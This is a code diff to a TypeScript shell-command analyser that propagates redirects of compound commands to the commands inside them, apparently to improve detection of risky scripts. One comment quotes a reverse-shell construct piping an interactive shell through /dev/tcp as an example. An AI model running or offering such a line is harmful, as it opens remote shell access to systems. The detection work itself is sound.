@@ -73,6 +73,8 @@ export class Walker {
   private pipelineIds = 0;
   /** Commands by pipeline stage (`id:index`), so a stage finds the one before it in constant time. */
   private readonly stages = new Map<string, WalkedCommand[]>();
+  /** Redirects of the compound commands being walked, inherited by every command inside. */
+  private readonly inheritedRedirects: RedirectTarget[] = [];
   /** Owners of the nested scripts being walked (`bash -c` for the commands inside it). */
   readonly owners: number[] = [];
 
@@ -124,6 +126,22 @@ export class Walker {
 
   /** `certain`: the command surely runs in this shell, so its state changes are known. */
   command(cmd: Command, frame: SourceFrame, ctx: CommandContext, scope: Scope, certain: boolean): void {
+    if (cmd.type === 'SimpleCommand' || cmd.redirects.length === 0) return this.commandBody(cmd, frame, ctx, scope, certain);
+    // Redirects on a compound command are set up before its body runs, and the commands inside
+    // read and write through them: `{ sh -i; } < /dev/tcp/h/1` is a shell reading a socket. They
+    // are the compound's own operations (a command of their own) and inherited by each inside.
+    const targets = this.redirectTargets(cmd.redirects, frame, ctx, scope);
+    const depth = this.inheritedRedirects.length;
+    for (const t of targets) this.inheritedRedirects.push({ ...t, inherited: true });
+    try {
+      this.commandBody(cmd, frame, ctx, scope, certain);
+    } finally {
+      this.inheritedRedirects.length = depth;
+    }
+    this.emit({ program: null, programRaw: '', args: [], assignments: [], redirects: targets, span: frame.map(cmd.span), text: '' }, ctx, scope);
+  }
+
+  private commandBody(cmd: Command, frame: SourceFrame, ctx: CommandContext, scope: Scope, certain: boolean): void {
     const inner = { ...ctx, depth: ctx.depth + 1 };
     switch (cmd.type) {
       case 'SimpleCommand':
@@ -215,18 +233,11 @@ export class Walker {
         this.wordSubstitutions(cmd.inner, frame, ctx, scope);
         break;
     }
-    if (cmd.redirects.length > 0) this.compoundRedirects(cmd.redirects, cmd.span, frame, ctx, scope);
   }
 
   /** Run `f` on a copy of the scope; what it changed becomes unknown afterwards. */
   private uncertain(scope: Scope, f: (s: Scope) => void): void {
     withCertainty(scope, false, f);
-  }
-
-  /** Redirects on a compound command (`{ …; } > f`) become a command of their own. */
-  private compoundRedirects(redirects: Redirect[], span: Span, frame: SourceFrame, ctx: CommandContext, scope: Scope): void {
-    const targets = this.redirectTargets(redirects, frame, ctx, scope);
-    this.emit({ program: null, programRaw: '', args: [], assignments: [], redirects: targets, span: frame.map(span), text: '' }, ctx, scope);
   }
 
   /** Walk every command that runs while a word is expanded (substitutions), before the command. */
@@ -280,6 +291,24 @@ export class Walker {
     if (program !== undefined && NAME_TAKING_BUILTINS.has(program)) {
       for (const a of args.slice(1)) if (!a.dynamic && risky(a.value)) this.finding('arithmetic-injection', `\`${a.value.slice(0, 40)}\``, a.span);
     }
+  }
+
+  /**
+   * What a command reads on stdin when known: its own heredoc or here-string; else, unless its own
+   * redirect or a pipe feeds it, one of an enclosing compound command; else the stage before it.
+   */
+  private stdinText(own: RedirectTarget[], ctx: CommandContext): string | null {
+    const mine = own.find((r) => r.input !== null);
+    if (mine) return mine.input;
+    const piped = ctx.pipeline !== null && ctx.pipeline.index > 0;
+    const ownStdin = own.some((r) => (r.fd ?? (r.op.startsWith('<') ? 0 : 1)) === 0);
+    if (!piped && !ownStdin) {
+      for (let i = this.inheritedRedirects.length - 1; i >= 0; i--) {
+        const r = this.inheritedRedirects[i];
+        if ((r.fd ?? (r.op.startsWith('<') ? 0 : 1)) === 0) return r.input;
+      }
+    }
+    return this.pipedText(ctx);
   }
 
   /** Static output of the previous pipeline stage when it is `echo`/`printf` with static words. */
@@ -417,6 +446,8 @@ export class Walker {
     ctx: CommandContext,
     scope: Scope,
   ): WalkedCommand {
+    const inherited = this.inheritedRedirects;
+    const redirects = inherited.length === 0 ? c.redirects : [...c.redirects, ...inherited];
     const walked: WalkedCommand = {
       id: this.commands.length,
       program: c.program,
@@ -424,14 +455,14 @@ export class Walker {
       programPath: c.programPath ?? null,
       args: c.args,
       assignments: c.assignments,
-      redirects: c.redirects,
+      redirects,
       context: ctx,
       cwd: scope.cwd,
       parent: c.parent ?? this.owners[this.owners.length - 1] ?? null,
       substitutionOf: null,
       calls: c.calls ?? null,
       execsStdin: c.execsStdin ?? false,
-      stdinText: c.redirects.find((r) => r.input !== null)?.input ?? this.pipedText(ctx),
+      stdinText: this.stdinText(c.redirects, ctx),
       exported: exportedVariables(scope),
       globOptions: globOptionsNow(scope),
       span: c.span,
